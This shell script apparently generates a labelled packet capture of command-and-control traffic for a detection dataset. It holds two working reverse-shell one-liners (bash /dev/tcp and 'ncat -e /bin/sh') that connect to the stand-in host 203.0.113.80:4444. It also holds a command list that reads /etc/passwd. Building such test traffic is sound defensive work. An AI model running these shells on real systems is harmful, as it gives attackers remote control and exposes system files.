# pc-14 opens a shell to 203.0.113.80 by bash, and one as small programs do by netcat; both are given commands.
file=reverse-shell.pcap.gz
class=c2
family=reverse-shell-bash-ncat
rule=CONN:203.0.113.80:4444:c2
tools=(ncat:ncat)

commands() {
  local line
  for line in 'id' 'uname -a' 'ls -la /etc' 'cat /etc/passwd' 'df' 'exit'; do
    sleep 4
    echo "$line"
  done
}

play() {
  office 100 6 pc-11 pc-12 pc-13 pc-15
  sleep 15
  commands | launch cnc timeout 60 ncat -lnp 4444 >"$work/shell.log"
  sleep 1
  # shellcheck disable=SC2016  # expanded inside
  inside pc-14 timeout 50 bash -c 'exec bash -i </dev/tcp/203.0.113.80/4444 >&0 2>&1' || true
  sleep 5
  commands | launch cnc timeout 60 ncat -lnp 4444 >>"$work/shell.log"
  sleep 1
  inside pc-14 timeout 50 ncat -e /bin/sh 203.0.113.80 4444 || true
  sleep 10
}
